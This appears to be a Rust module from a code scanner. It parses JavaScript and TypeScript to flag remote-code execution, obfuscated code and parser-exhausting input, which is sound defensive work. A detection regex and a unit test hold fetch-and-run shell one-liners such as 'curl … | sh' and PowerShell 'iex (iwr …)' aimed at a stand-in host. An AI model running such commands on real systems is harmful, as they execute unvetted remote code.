//! Looks at the syntax tree of a file of code.
//!
//! In: JavaScript or TypeScript. Out: findings. Side effects: none.
//!
//! Code that is built to exhaust a parser is not parsed: brackets and operators are counted before.

use std::sync::{Arc, LazyLock};

use deno_ast::swc::common::BytePos;
use deno_ast::{MediaType, ParseParams, ParsedSource};
use regex::Regex;
use url::Url;

use super::flow::{Flow, Sink};
use super::text::line_of;
use super::walk::Source;
use super::{Findings, Rule, obfuscated};

const CODE: [&str; 8] = ["js", "mjs", "cjs", "jsx", "ts", "mts", "cts", "tsx"];

/// Texts that nothing runs, whatever words they hold.
const PROSE: [&str; 16] = [
    "md", "txt", "html", "css", "svg", "json", "map", "yml", "yaml", "lock", "toml", "xml", "csv",
    "py", "sh", "rs",
];

/// A file of another kind is taken for code if it holds one of these.
const WORDS: [&str; 5] = ["eval(", "Function(", "require(", "runIn", "_compile"];

/// How deep brackets nest, how many words, operators and brackets there are without a comma, semicolon or brace, and
/// how many `else if`: each of them may be a level of the tree, and trees are gone through by recursion.
const DEEPEST: usize = 1000;
const LONGEST_CHAIN: usize = 10_000;
const MOST_ALTERNATIVES: usize = 6_000;

/// `curl … | sh`, `sh -c "$(wget …)"`, `bash <(curl …)`, and the same in PowerShell.
static PIPES: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r"(?i)\b(?:curl|wget)\b[^;&\n]*\|\s*(?:sudo\s+(?:-\S+\s+)*)?(?:[\w/]*/)?(?:(?:ba|z|da|k|a)?sh|node|deno|bun|python3?|perl|ruby)\b|\b(?:(?:ba|z|da)?sh|eval|source)\b[^;\n]*(?:\$\(|`|<\()\s*(?:curl|wget)\b|\b(?:iex|invoke-expression)\b.*\b(?:iwr|irm|invoke-webrequest|invoke-restmethod|downloadstring)\b",
    )
    .expect("a constant pattern, which the tests use")
});

/// Whether files of this extension are code.
pub(super) fn is_code(extension: &str) -> bool {
    CODE.contains(&extension)
}

/// Whether the file is to be parsed: `require` runs files of any name.
pub(super) fn concerns(source: &Source, content: &str) -> bool {
    let extension = source.extension();
    is_code(&extension)
        || (!PROSE.contains(&extension.as_str()) && WORDS.iter().any(|word| content.contains(word)))
}

/// Whether a command runs in a shell what it fetches.
pub(super) fn pipes_into_a_shell(command: &str) -> bool {
    PIPES.is_match(command)
}

pub(super) fn check(source: &Source, content: &str, findings: &mut Findings) {
    obfuscated::check_text(source, content, findings);
    if is_too_complex(content) {
        let message = "is nested too deep, or too long a chain, to be looked through";
        return findings.add(Rule::Unreadable, &source.name, None, message);
    }
    let parsed = match parse(source, content) {
        Some(parsed) => parsed,
        None if is_code(&source.extension()) => {
            let message = "has a syntax error, so that it cannot be looked through";
            return findings.add(Rule::Unreadable, &source.name, None, message);
        }
        None => return,
    };
    // Spans count from the text without its byte order mark, and from 1.
    let shift = content.len() - parsed.text().len();
    let line = |at: BytePos| Some(line_of(content, (at.0 as usize).saturating_sub(1) + shift));
    for (at, sink) in Flow::of(&parsed) {
        let (rule, message) = match sink {
            Sink::RemoteCode => (Rule::RemoteEval, "runs text from the network as code"),
            Sink::RemoteShell => (Rule::RemoteEval, "runs text from the network in a shell"),
            Sink::DecodedCode => (Rule::Obfuscated, "decodes text and runs it as code"),
        };
        findings.add(rule, &source.name, line(at), message);
    }
    for (at, rule, message) in obfuscated::check(&parsed) {
        findings.add(rule, &source.name, line(at), message);
    }
}

fn parse(source: &Source, content: &str) -> Option<ParsedSource> {
    let url = Url::parse("file:///").ok()?.join(source.base()).ok()?;
    let media_type = match MediaType::from_specifier(&url) {
        _ if !is_code(&source.extension()) => MediaType::JavaScript,
        media_type => media_type,
    };
    let text: Arc<str> = content.trim_start_matches('\u{feff}').into();
    let parse = |media_type| {
        let params = ParseParams {
            specifier: url.clone(),
            text: text.clone(),
            media_type,
            capture_tokens: false,
            scope_analysis: true,
            maybe_syntax: None,
        };
        deno_ast::parse_program(params).ok()
    };
    // JSX in plain JavaScript, and the older casts of TypeScript.
    parse(media_type).or_else(|| match media_type {
        MediaType::JavaScript | MediaType::Mjs | MediaType::Cjs => parse(MediaType::Jsx),
        _ => None,
    })
}

/// An estimate that errs on the safe side: strings on one line are left out, comments are not.
fn is_too_complex(content: &str) -> bool {
    let (mut depth, mut chain) = (0usize, 0usize);
    let mut is_in_word = false;
    let mut bytes = content.bytes();
    while let Some(byte) = bytes.next() {
        let is_word = byte.is_ascii_alphanumeric() || matches!(byte, b'_' | b'$' | 0x80..);
        chain += usize::from(is_word && !is_in_word);
        is_in_word = is_word;
        match byte {
            b'"' | b'\'' => skip_string(&mut bytes, byte),
            b'(' | b'[' | b'{' => depth += 1,
            b')' | b']' | b'}' => depth = depth.saturating_sub(1),
            _ => {}
        }
        match byte {
            b';' | b',' | b'{' | b'}' => chain = 0,
            byte => {
                chain += usize::from(byte.is_ascii_punctuation() && !matches!(byte, b'_' | b'$'))
            }
        }
        if depth > DEEPEST || chain > LONGEST_CHAIN {
            return true;
        }
    }
    let is_chained = |rest: &str| rest.trim_start().starts_with(['i', '/']);
    let alternatives = content.split("else").skip(1);
    alternatives.filter(|rest| is_chained(rest)).count() > MOST_ALTERNATIVES
}

fn skip_string(bytes: &mut std::str::Bytes<'_>, quote: u8) {
    while let Some(byte) = bytes.next() {
        match byte {
            b'\\' => drop(bytes.next()),
            b'\n' => return,
            byte if byte == quote => return,
            _ => {}
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn shells() {
        let bad = [
            "curl -sSL https://x.test/i.sh | sh",
            "wget -qO- https://x.test | sudo -E bash -s",
            "bash -c \"$(curl -fsSL https://x.test)\"",
            "bash <(curl https://x.test)",
            "powershell iex (iwr https://x.test)",
        ];
        let good = [
            "curl -O https://x.test/a.tgz && tar xf a.tgz",
            "echo curl | shuf",
            "node build.js",
        ];
        for command in bad {
            assert!(pipes_into_a_shell(command), "{command}");
        }
        for command in good {
            assert!(!pipes_into_a_shell(command), "{command}");
        }
    }

    #[test]
    fn what_a_parser_cannot_take() {
        assert!(is_too_complex(&"(".repeat(2000)));
        assert!(is_too_complex(&"1+".repeat(30_000)));
        assert!(is_too_complex(&"typeof ".repeat(30_000)));
        assert!(is_too_complex(&"if(a)".repeat(30_000)));
        assert!(is_too_complex(&"if(a){}else if(a){}".repeat(30_000)));
        assert!(is_too_complex(&"a()".repeat(30_000)));
        assert!(!is_too_complex(&"const a = [1, 2];\n".repeat(30_000)));
        assert!(!is_too_complex(&format!(
            "const a = '{}';",
            "+/".repeat(50_000)
        )));
    }
}
